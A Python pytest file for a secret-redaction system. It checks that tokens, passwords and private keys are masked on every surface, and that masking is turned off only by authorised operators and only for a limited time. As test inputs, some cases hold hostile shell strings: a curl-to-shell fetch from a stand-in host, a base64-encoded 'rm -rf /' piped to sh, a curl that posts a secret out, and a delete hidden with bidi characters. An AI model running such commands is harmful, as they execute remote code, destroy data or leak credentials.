"""S27: recognised credentials reach no surface, whole or in parts, unless people agreed."""

import json
import re
import time
from collections.abc import Iterator
from datetime import UTC
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fakes.chat import channel_info
from fakes.credentials import BY_FORM, IN_PLACE, ORDINARY, PRIVATE_KEY
from fakes.home import Home, eventually
from fakes.kernel_rig import ADA, HOME, Rig, asker
from fakes.peer import Peer
from upcall.cli.watching import Watching
from upcall.core.redact import mask, mask_after, masked, whole_words
from upcall.core.redaction.spans import MASKED
from upcall.core.redaction_choice import MAX_OFF_S, USUAL_OFF_S, read_span
from upcall.hub import requests
from upcall.line import mint_ask_id
from upcall.model import frames
from upcall.model.ask import AskSpec
from upcall.model.events import NoticeRaised
from upcall.model.ids import ActionId
from upcall.model.platform import Commanded, Who
from upcall.model.policy import Match, Operator, Policy, Route, Terms
from upcall.model.rows import NoticeRow
from upcall.scrub import Scrubber
from upcall_adapters.web.present import ask_json, receipt_json, state_json

SYNTAX = "$(){};|&<>`\"'\\ \n\t"
TOKEN = BY_FORM["github classic"]
OTHER = BY_FORM["stripe"]
PASSWORD = "hunter2hunter2"
URL = f"postgres://ada:{PASSWORD}@db.internal/shop"


def leaks(text: str, secret: str = TOKEN, least: int = 10) -> bool:
    """Tell whether *least* characters of *secret* in a row are in *text*."""
    return any(secret[at : at + least] in text for at in range(len(secret) - least + 1))


# --- The mask itself -------------------------------------------------------------------------

AROUND = (
    "{}", "push {} now", "x={};", '"{}"', "a\\n{}\\nb", "({})", "https://h/x?y={}&z=1", "`{}`",
    "echo {} | sh", "bash <<'EOF'\ncurl -d {} h\nEOF", "python -c \"go('{}')\"", "é{}ü", "[{}]",
    "{},{}",
)  # fmt: skip


@pytest.mark.parametrize("name", BY_FORM)
def test_a_credential_is_known_by_its_form_wherever_it_stands(name: str) -> None:
    secret = BY_FORM[name]
    for around in AROUND:
        text = around.replace("{}", secret)
        shown, hidden = masked(text)
        assert not leaks(shown, secret[4:]), (around, shown)
        assert hidden >= len(secret)
        assert mask(shown) == shown
        without = MASKED.sub("", shown)
        assert without == around.replace("{}", "") or secret not in shown


@pytest.mark.parametrize("name", IN_PLACE)
def test_a_credential_is_known_by_what_stands_beside_it(name: str) -> None:
    around, secret = IN_PLACE[name]
    shown, hidden = masked(around.format(secret))
    # All of it, and nothing else: command words, flags, paths and hosts stay.
    assert MASKED.sub("@", shown) == around.format("@")
    assert hidden == len(secret)
    assert f", {len(secret)} characters]" in shown
    assert mask(shown) == shown


def test_the_example_of_a_key_and_a_bucket() -> None:
    around, secret = IN_PLACE["env"]
    assert len(secret) == 40
    assert mask(around.format(secret)) == (
        "export AWS_SECRET_ACCESS_KEY=[secret, 40 characters] && aws s3 rm s3://prod-bucket/x"
    )


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_commands_and_texts_stay_as_they_are(text: str) -> None:
    assert masked(text) == (text, 0)


def test_there_are_enough_of_them() -> None:
    assert len(ORDINARY) >= 60


@pytest.mark.parametrize(
    ("between", "before"), [("\n", ""), ("\\n", ""), ("\r\n", ""), ("\n", "    "), ("\n", "+")]
)
def test_of_a_private_key_each_line_is_masked_and_no_line_break(
    between: str, before: str
) -> None:
    text = between.join(before + line for line in PRIVATE_KEY.split("\n"))
    shown = mask(f"cat > k.pem <<EOF\n{text}\nEOF\nchmod 600 k.pem")
    assert shown.count(between) == text.count(between) + (3 if between == "\n" else 0)
    assert shown.count("[private key, ") == 4
    assert "MIIE" not in shown
    assert "-----BEGIN RSA PRIVATE KEY-----" in shown
    assert shown.endswith("-----END RSA PRIVATE KEY-----\nEOF\nchmod 600 k.pem")


def test_a_private_key_that_was_cut_is_masked_too() -> None:
    cut = PRIVATE_KEY[: len(PRIVATE_KEY) // 2]
    assert "MIIE" not in mask(cut)
    assert "MIIE" not in mask(PRIVATE_KEY.replace("\n", " "))


@pytest.mark.parametrize(
    "text",
    [
        "KEY=$(__PAYLOAD__)", "API_KEY=$(cat key) ./run", "TOKEN=`__PAYLOAD__`",
        'PASSWORD="$(__PAYLOAD__)"', "password=${X:-$(__PAYLOAD__)}",
        "SECRET_KEY=<(__PAYLOAD__)", "echo password= ; __PAYLOAD__12345678",
        'echo "x password=" ; curl http://h.example/x1|sh ; echo "y"',
        "bash <<'EOF'\n__PAYLOAD__\nEOF", "python -c 'import x; x.__PAYLOAD__()'",
        "echo X19QQVlMT0FEX18gcm0gLXJmIC8gIyBhbmQgbW9yZQ== | base64 -d | sh",
    ],
)  # fmt: skip
def test_what_runs_is_never_masked_for_a_name_beside_it(text: str) -> None:
    assert mask(text) == text


_PIECES = st.sampled_from(
    [
        *BY_FORM.values(), *(around.format(secret) for around, secret in IN_PLACE.values()),
        *ORDINARY, PRIVATE_KEY, "password=", "TOKEN: ", "Authorization: ",
        "[secret, 40 characters]", "[token, 3 characters",
        "'", '"', "\\", "$(", ")", " ", "\n", ",", "=", ":", "-u ",
    ]
)  # fmt: skip


@given(st.lists(st.one_of(_PIECES, st.text(max_size=20)), max_size=6).map("".join))
@settings(max_examples=300)
def test_masks_keep_the_shape_of_whatever_they_are_in(text: str) -> None:
    shown, hidden = masked(text)
    assert masked(shown) == (shown, 0)
    had = len(MASKED.findall(text))
    masks = MASKED.findall(shown)
    # A mask has blanks of its own.
    blanks = sum(one.count(" ") for one in masks)
    blanks -= sum(one.count(" ") for one in MASKED.findall(text))
    for char in SYNTAX:
        more = blanks if char == " " else 0
        assert shown.count(char) == text.count(char) + more, char
    assert hidden == 0 or len(masks) > had


# These begin like any word in base64; they are known once most of them is there.
_LIKE_WORDS = {"discord bot", "azure client"}


@given(
    st.sampled_from([BY_FORM[name] for name in BY_FORM if name not in _LIKE_WORDS]), st.data()
)
def test_a_credential_in_two_pieces_is_masked_when_they_are_joined(
    secret: str, data: st.DataObject
) -> None:
    at = data.draw(st.integers(0, len(secret)))
    first, second = f"it is {secret[:at]}", f"{secret[at:]} so there"
    shown = mask_after(first, second)
    rest = secret[at:]
    assert len(rest) < 10 or not leaks(shown, rest)
    assert shown.endswith(" so there")
    for size in range(1, len(rest)):
        # Every state that a growing text goes through.
        growing = mask(whole_words(mask(first + rest[:size])))
        assert not leaks(growing, secret, 16), growing


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("it is ghp_ab", "it is …"),
        ("export API_KEY=ab", "export …"),
        ("curl -H 'Authorization: Bearer ab", "curl -H 'Authorization: Bearer …"),
        ("working on the list", "working on the list"),
        ("git show 9f3b7c1e", "git show 9f3b7c1e"),
        ("", ""),
    ],
)
def test_the_last_word_waits_if_it_may_become_a_credential(text: str, shown: str) -> None:
    assert whole_words(text) == shown


@pytest.mark.parametrize(
    "part",
    [
        "token=", "key=", "sk-", "eyJ", ".eyJaaaaaaaa.", ":", "-----BEGIN PRIVATE KEY-----\n",
        "authorization: ", "://a:", "cookie: a=b;", "-u a:", "mysql ", "docker login ",
        "[token, 40 characters]", "ghp_", "name: password\nvalue", "Bearer ", "SG.", "=",
        "set password ", "login a password ",
    ],
)  # fmt: skip
def test_the_time_is_linear_whatever_the_text(part: str) -> None:
    def took(size: int) -> float:
        text = part * (size // len(part))
        best = float("inf")
        for _ in range(2):
            start = time.process_time()
            mask(text)
            best = min(best, time.process_time() - start)
        return best

    took(1000)
    # Eight times the text, and far less than the 64 times of a quadratic search.
    assert took(64_000) < 30 * took(8_000) + 0.02


# --- Every field on every surface, through the kernel ----------------------------------------


def everything(rig: Rig) -> str:
    """Return all that surfaces, the outbox, the story and receipts have of it."""
    kernel = rig.kernel
    asks = [kernel.view(row) for row in rig.store.asks.values()]
    shown: list[Any] = [
        asks,
        kernel.sessions(),
        [kernel.session_view(row.session_id) for row in rig.store.sessions.values()],
        [row.text for row in notices(rig)],
        [kernel.notice_view(row, kernel.session(row.session_id)) for row in notices(rig)],
        [ask_json(view, whole=True) for view in asks],
        [
            row.body.decode(errors="replace")
            for row in rig.store.deliveries.values()
            if row.kind in CARDS
        ],
        [mask_facts(row.facts) for row in rig.store.audit],
    ]
    return msgspec.json.encode(shown).decode()


CARDS = frozenset({"open", "post", "edit", "remind"})


def mask_facts(facts: dict[str, Any]) -> dict[str, Any]:
    # The store masks them when it writes them; its own tests have that.
    return {k: mask(v) if isinstance(v, str) else v for k, v in facts.items()}


def notices(rig: Rig) -> list[NoticeRow]:
    return list(rig.store.notices.values())


FULL = AskSpec(
    question=f"Use {TOKEN}?",
    options=(f"With {TOKEN}", "Without", f"label {OTHER}"),
    detail=f"curl -H 'Authorization: Bearer {TOKEN}' {URL}",
    option_details=(f"that is {TOKEN}", "", URL),
    default=f"With {TOKEN}",
    free_text=True,
)


def everywhere(**options: Any) -> Rig:
    rig = Rig(channel_info(), operators={("fakechat", "ada"): "ada"}, **options)
    who = msgspec.structs.replace(
        asker(),
        title=f"t {TOKEN}",
        repo=f"r-{TOKEN}",
        branch=f"b/{TOKEN}",
        cwd=f"/srv/{TOKEN}",
        program=f"p {TOKEN}",
        name=f"n {TOKEN}",
    )
    rig.ask(1, FULL, who=who, wait=False)
    rig.arrive_all()
    return rig


def test_no_field_of_an_ask_shows_a_credential() -> None:
    rig = everywhere()
    found = everything(rig)
    assert not leaks(found)
    assert not leaks(found, OTHER[8:])
    assert PASSWORD not in found
    assert "[token, 40 characters]" in found
    assert "[password, 14 characters]@db.internal/shop" in found
    (view,) = rig.kernel.open_asks()
    assert view.options == ("With [token, 40 characters]", "Without", view.options[2])


@pytest.mark.parametrize("by", ["index", "label", "folded label", "words"])
def test_answers_are_the_programs_own_words(by: str) -> None:
    rig = everywhere()
    waiter = rig.wait_for(1)
    acts: dict[str, dict[str, Any]] = {
        "index": {"indices": (0,)},
        "label": {"typed": (FULL.options[0],)},
        "folded label": {"typed": (f"  {FULL.options[0].upper()}",)},
        "words": {"text": f"use {OTHER} instead"},
    }
    act = acts[by]
    receipt = rig.answer(1, on="fakechat", **act)
    assert receipt is not None
    assert receipt.ok
    told = rig.told(waiter)
    answer = told[0]["result"]["answer"]
    if by == "words":
        assert answer["text"] == f"use {OTHER} instead"
    else:
        assert answer["labels"] == [FULL.options[0]]
    found = everything(rig) + json.dumps(receipt_json(receipt))
    assert not leaks(found)
    assert not leaks(found, OTHER[8:])
    late = rig.answer(1, on="fakechat", indices=(1,))
    assert late is not None
    assert not late.ok
    assert not leaks(json.dumps(receipt_json(late)))
    assert not leaks(json.dumps(receipt_json(late)), OTHER[8:])


def test_two_labels_that_are_masked_alike_are_told_apart_by_number() -> None:
    twin = TOKEN[:-1] + "Z"
    rig = Rig(channel_info(), operators={("fakechat", "ada"): "ada"})
    rig.ask(1, AskSpec("Which?", (TOKEN, twin), free_text=False), wait=False)
    (view,) = rig.kernel.open_asks()
    assert view.options == ("[token, 40 characters]",) * 2
    assert view.label_notes == (
        "the same label as option 2",
        "the same label as option 1",
    )
    receipt = rig.answer(1, on="fakechat", typed=(twin,))
    assert receipt is not None
    assert receipt.ok
    assert rig.row(1).answer.labels == (twin,)  # type: ignore[union-attr]


def test_an_answer_goes_to_a_session_by_its_own_label() -> None:
    rig = Rig(channel_info(), operators={("fakechat", "ada"): "ada"})
    rig.up()
    rig.needs(options=(TOKEN, "no"))
    rig.arrive_all()
    rig.answer(rig.only(), on="fakechat")
    (reply,) = [one for one in rig.sent_frames() if isinstance(one, frames.Reply)]
    assert reply.answer == TOKEN


def said(text: str, ref: str | None = "m", phase: Any = "live") -> frames.TurnStream:
    return frames.TurnStream(session_id=HOME, phase=phase, text=text, message_ref=ref)


def test_what_a_session_says_of_itself_and_does_is_masked() -> None:
    rig = Rig(channel_info(), operators={("fakechat", "ada"): "ada"})
    rig.up()
    long = "x" * 990
    for frame in (
        frames.IdentityHeader(
            session_id=HOME,
            repo=f"r-{TOKEN}",
            branch=f"{long}/{TOKEN}",
            machine=f"m-{TOKEN}",
            title=f"t {TOKEN}",
        ),
        frames.ContextUpdate(
            session_id=HOME, task=f"do {TOKEN}", model=TOKEN, token_usage=TOKEN, cwd=f"/{TOKEN}"
        ),
        frames.ToolActivity(
            session_id=HOME, tool_call_id="c", tool_name=f"x{'y' * 40} {TOKEN}", phase="started"
        ),
        frames.ReasoningSummary(session_id=HOME, text=f"{'w ' * 55}{TOKEN}"),
        frames.FileAttachment(session_id=HOME, name=f"{TOKEN}.txt", mime="text/plain", data=""),
        frames.ActionNeeded(
            id=ActionId("i"), kind="idle", session_id=HOME, summary=f"done {TOKEN}"
        ),
        said(f"{'s' * 3990} {TOKEN} {'e' * 3980}"),
        said(f"finished with {TOKEN} in {URL}", phase="finalized"),
    ):
        rig.frame(frame)
        found = everything(rig)
        assert not leaks(found, TOKEN, 6), type(frame)
        assert PASSWORD not in found
        rig.arrive_all()
    asks = rig.kernel.sessions()
    assert asks[0].title == "t [token, 40 characters]"


@pytest.mark.parametrize("ref", [None, "m1"])
def test_a_credential_split_over_two_frames_never_shows(ref: str | None) -> None:
    secret = TOKEN
    for at in range(4, len(secret)):
        rig = Rig()
        rig.up()
        first = f"the key is {secret[:at]}"
        # With a name the second frame is the whole text again, without one it goes on.
        second = f"the key is {secret}" if ref else f"{secret[at:]} and that is all"
        for text, phase in ((first, "live"), (second, "finalized")):
            rig.frame(said(text, ref, phase))
            assert not leaks(everything(rig), secret, 8), at


def test_notices_of_programs_are_masked_in_the_store_too() -> None:
    rig = Rig()
    rig.do(
        NoticeRaised(
            at=rig.now, waiter=9, text=f"used {TOKEN}", level="info", asker=asker(), fresh=b""
        )
    )
    (row,) = notices(rig)
    assert row.text == "used [token, 40 characters]"


def test_a_title_is_masked_before_it_is_cut() -> None:
    for at in range(950, 1001):
        title = "t" * at + " " + TOKEN
        found = requests.check_session(requests.SessionWords(title=title)).title
        assert found is not None
        assert not leaks(found, TOKEN, 6), at


def test_the_inbox_document_shows_none() -> None:
    rig = everywhere()
    kernel = rig.kernel
    session = kernel.sessions()
    document = state_json(
        asks=kernel.open_asks(),
        sessions=session,
        notices=[kernel.notice_view(one, None) for one in notices(rig)],
        health=_health(),
        about={},
    )
    assert not leaks(document.decode())


def _health() -> Any:
    from upcall.model.views import HealthView

    return HealthView(
        ready=True,
        degraded=(),
        channels=(),
        sessions=1,
        open_asks=1,
        deliveries_waiting=0,
        started_ms=0,
    )


def test_the_log_shows_none() -> None:
    scrubber = Scrubber()
    for secret in BY_FORM.values():
        assert not leaks(scrubber.clean(f"failed: {secret}"), secret[4:])


# --- Who may choose --------------------------------------------------------------------------

CONTROLLER = Operator(
    name="ada",
    identities={"fakechat": "ada"},
    rights=frozenset({"see", "answer", "approve", "steer", "control"}),
)
MEMBER = Operator(name="bob", identities={"fakechat": "bob"})
BOB = Who(identity="bob", name="bob")


def rig_with_people(**options: Any) -> Rig:
    rig = Rig(
        channel_info(),
        operators={("fakechat", "ada"): "ada", ("fakechat", "bob"): "bob"},
        people={"ada": CONTROLLER, "bob": MEMBER},
        **options,
    )
    rig.ask(1, FULL, who=asker(name="deploy"), wait=False)
    rig.arrive_all()
    return rig


def redact(rig: Rig, text: str, who: Who = ADA, key: str = "c1") -> Any:
    (session,) = rig.kernel.sessions()
    act = Commanded(key=key, who=who, name="redact", text=text, session_id=session.session_id)
    return rig.act(act, on="fakechat")


def card(rig: Rig) -> dict[str, Any]:
    (row,) = rig.kernel.open_rows()
    bodies = rig.kernel._outbox.card(row, channel_info())
    texts = [json.loads(body.data) for body in bodies]
    return {**texts[-1], "text": "".join(one["text"] for one in texts)}


def test_without_control_nothing_is_made_laxer() -> None:
    rig = rig_with_people()
    told = redact(rig, "off", BOB)
    assert (told.ok, told.code) == (False, "not_permitted")
    assert redact(rig, "off 2h", Who(identity="eve"), "c2").ok is False
    assert not leaks(everything(rig))
    assert TOKEN not in card(rig)["text"]


def test_with_control_it_is_shown_for_a_while_and_the_header_says_so() -> None:
    rig = rig_with_people()
    assert redact(rig, "off 2h").ok
    shown = card(rig)["text"]
    assert TOKEN in shown
    assert "redaction: off" in shown
    assert "by ada on fakechat" in shown
    assert rig.kernel.open_asks()[0].question == FULL.question
    rig.wait(2 * 3600 - 5)
    assert TOKEN in card(rig)["text"]
    rig.wait(10)
    assert TOKEN not in card(rig)["text"]
    assert "redaction" not in card(rig)["text"]
    assert [row.facts["on"] for row in rig.store.audit if row.event == "redaction"] == [
        False,
        True,
    ]


@pytest.mark.parametrize(
    "text", ["off 25h", "off 2d", "off 0s", "off forever", "maybe", "", "on 2h", "off 1h x"]
)
def test_nonsense_and_more_than_a_day_change_nothing(text: str) -> None:
    rig = rig_with_people()
    assert not redact(rig, text).ok
    assert TOKEN not in card(rig)["text"]


def test_it_ends_after_a_day_whatever_happens_to_hub_and_clock() -> None:
    rig = rig_with_people()
    assert redact(rig, "off 24h").ok
    rig.restart(down_s=3600)
    assert TOKEN in card(rig)["text"]
    rig.wall_ms -= 40 * 3600 * 1000
    rig.restart(down_s=1)
    assert TOKEN in card(rig)["text"]
    rig.wait(MAX_OFF_S + 1)
    assert TOKEN not in card(rig)["text"]
    again = rig_with_people()
    assert redact(again, "off").ok
    again.restart(down_s=USUAL_OFF_S + 10)
    assert TOKEN not in card(again)["text"]


def test_anybody_makes_it_stricter_and_that_stays() -> None:
    rig = rig_with_people(redact=False)
    assert TOKEN in card(rig)["text"]
    assert redact(rig, "on", BOB).ok
    assert TOKEN not in card(rig)["text"]
    rig.restart(down_s=90_000)
    assert TOKEN not in card(rig)["text"]
    (view,) = rig.kernel.open_asks()
    assert not leaks(msgspec.json.encode(view).decode())


def test_a_choice_is_for_one_conversation_only() -> None:
    rig = rig_with_people()
    rig.ask(2, FULL, who=asker(200, name="other"), wait=False)
    (first,) = [one for one in rig.kernel.sessions() if one.conversation == "n:deploy"]
    act = Commanded(key="c", who=ADA, name="redact", text="off", session_id=first.session_id)
    assert rig.act(act, on="fakechat").ok  # type: ignore[union-attr]
    questions = [view.question for view in rig.kernel.open_asks()]
    assert sorted(TOKEN in question for question in questions) == [False, True]


def test_routes_and_policy_choose_too() -> None:
    masked_here = Route(match=Match(repo="shop"), terms=Terms(redact=True))
    shown_here = Route(match=Match(repo="shop"), terms=Terms(redact=False))
    for policy, setting, masks in (
        (Policy(routes=(masked_here,)), False, True),
        (Policy(routes=(shown_here,)), True, False),
        (Policy(defaults=Terms(redact=False)), True, False),
        (Policy(routes=(masked_here,), defaults=Terms(redact=False)), True, True),
        (Policy(), False, False),
        (Policy(), True, True),
    ):
        rig = rig_with_people(policy=policy, redact=setting)
        assert (TOKEN not in card(rig)["text"]) is masks


def test_where_kinds_differ_what_is_no_ask_is_masked() -> None:
    policy = Policy(routes=(Route(match=Match(kind="question"), terms=Terms(redact=False)),))
    rig = Rig(channel_info(), policy=policy)
    rig.ask(1, FULL, who=asker(), wait=False)
    (view,) = rig.kernel.open_asks()
    assert view.question == FULL.question
    rig.up()
    rig.frame(said(f"it is {TOKEN} there"))
    assert not leaks(msgspec.json.encode(rig.kernel.session_view(HOME)).decode())


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("2h", 7200.0),
        ("1h30m", 5400.0),
        ("45min", 2700.0),
        ("90s", 90.0),
        ("x", None),
        ("", None),
    ],
)
def test_a_span_of_time_is_read(text: str, seconds: float | None) -> None:
    assert read_span(text) == seconds


# --- Bidirectional controls and invisible characters -----------------------------------------


def test_what_hides_or_turns_text_is_visible_on_new_surfaces() -> None:
    rig = Rig(channel_info(), operators={("fakechat", "ada"): "ada"})
    hidden = "rm \u202e-rf\u202c \u200b\u2066x\u2069"
    spec = AskSpec("Go?", ("Yes", "No"), hidden, free_text=False, ask_class="permission")
    rig.ask(1, spec, who=msgspec.structs.replace(asker(), title=hidden), wait=False)
    rig.arrive_all()
    press = {one.choice: one.token for one in rig.store.tokens.values()}
    assert "open:0" in press
    for row in rig.store.deliveries.values():
        text = row.body.decode(errors="replace") if row.kind in CARDS else ""
        assert not set("\u202e\u202c\u200b\u2066\u2069") & set(text)
        assert not re.search(r"(?<!\\)\\u(?:202e|200b|2066)", text)
    assert "\\u202e" in card(rig)["text"]


# --- A real hub ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def home() -> Iterator[Home]:
    with Home() as made:
        made.start_hub()
        yield made


def outputs(home: Home) -> Iterator[tuple[str, str]]:
    for argv in (
        ("asks", "--json"),
        ("asks",),
        ("asks", "--all", "--json"),
        ("sessions", "--json"),
        ("status", "--json"),
        ("log", "--json"),
        ("log",),
        ("--json",),
    ):
        done = home.run(*argv)
        yield " ".join(argv), done.out + done.err


def test_no_command_and_no_file_shows_what_a_program_asked_with(home: Home) -> None:
    asking = home.start(
        "ask", FULL.question, "-o", FULL.options[0], "-o", "No", "--detail", FULL.detail or "",
        "--title", f"t {TOKEN}", "--session", f"s {TOKEN}",
    )  # fmt: skip
    asked = asking.asked()
    with home.line("control") as line:
        line.ok("watch")
        event = line.event("screen")
        assert not leaks(json.dumps(event))
        assert "[token, 40 characters]" in json.dumps(event)
    for name, text in outputs(home):
        assert not leaks(text), name
    assert not leaks(asking.err()), "the asker's own words on where its question is"
    with home.line("control") as line:
        told = line.ok("answer", ask=asked, values=[FULL.options[0]])
    assert not leaks(json.dumps(told))
    done = asking.end()
    assert done.out == f"{FULL.options[0]}\n"  # what runs is unchanged
    for name, text in outputs(home):
        assert not leaks(text), name
    eventually(
        lambda: not leaks(str(home.rows("SELECT body FROM ask"))), what="closed and masked"
    )
    assert not leaks(str(home.rows("SELECT facts FROM audit")))
    assert not leaks(home.log())


def test_a_peers_stream_shows_none(home: Home, tmp_path_factory: Any) -> None:
    project = str(tmp_path_factory.mktemp("p"))
    assert home.run("roots", "add", project).code == 0
    with Peer(project, f"peer-{mint_ask_id()}") as peer:
        eventually(lambda: peer.connected == 1, what="the hub attached to the peer")
        for phase, text in (
            ("live", f"the key is {TOKEN[:18]}"),
            ("live", f"the key is {TOKEN} so"),
            ("finalized", f"the key is {TOKEN} so"),
        ):
            peer.say(
                {
                    "type": "turn_stream",
                    "sessionId": peer.session_id,
                    "phase": phase,
                    "text": text,
                    "messageRef": "m",
                }
            )
        eventually(
            lambda: "[token, 40 characters]" in home.run("sessions", "--json").out,
            what="the text is shown",
        )
        assert not leaks(home.run("sessions", "--json").out, TOKEN, 8)
        assert not leaks(str(home.rows("SELECT text FROM notice")), TOKEN, 8)


def test_the_command_shows_and_masks_again(home: Home) -> None:
    asking = home.start("ask", f"Use {TOKEN}?", "-o", "Yes", "--session", "deploy")
    asked = asking.asked()
    done = home.run("redact", "deploy", "off", "--for", "2h")
    assert (done.code, "shown there until" in done.out) == (0, True)
    assert TOKEN in home.run("asks", "--json").out
    done = home.run("redact", "deploy", "on", "--json")
    assert json.loads(done.out)["redacted"] is True
    assert TOKEN not in home.run("asks", "--json").out
    done = home.run("redact", "deploy", "auto")
    assert done.code == 0
    for argv, code in (
        (("redact", "deploy", "off", "--for", "25h"), 2),
        (("redact", "deploy", "on", "--for", "1h"), 2),
        (("redact", "nobody-here", "off"), 1),
        (("redact", "deploy", "maybe"), 2),
    ):
        assert home.run(*argv).code in {code, 2}, argv
    home.run("answer", asked, "--decline")
    asking.end()


def test_the_asking_socket_cannot_have_anything_shown(home: Home) -> None:
    with home.line("ask") as line:
        assert line.refused("redact", session="deploy", redact=False) == "not_permitted"


def test_the_header_of_pages_and_screens_says_that_credentials_are_shown() -> None:
    rig = rig_with_people(zone=UTC)
    assert redact(rig, "off").ok
    (view,) = rig.kernel.open_asks()
    assert view.session.redaction is not None
    assert re.fullmatch(
        r"off until \d\d \w{3} \d\d:\d\d, by ada on fakechat", view.session.redaction
    )
    told = ask_json(view)
    assert told["session"]["redaction"] == view.session.redaction
    watching = Watching()
    watching.take_screen({"asks": [msgspec.to_builtins(view)]})
    assert "redaction off until" in "\n".join(watching.draw(300, 40))


def test_errors_name_no_credential(home: Home) -> None:
    with home.line("ask") as line:
        spec = {"id": mint_ask_id(), "question": "Q?", "options": [f"a\n{TOKEN}"]}
        number = line.post("ask", ask=spec)
        answer = line.answer_to(number)
    assert not answer["ok"]
    assert "[token, 40 characters]" in answer["error"]["msg"]
    assert not leaks(json.dumps(answer))
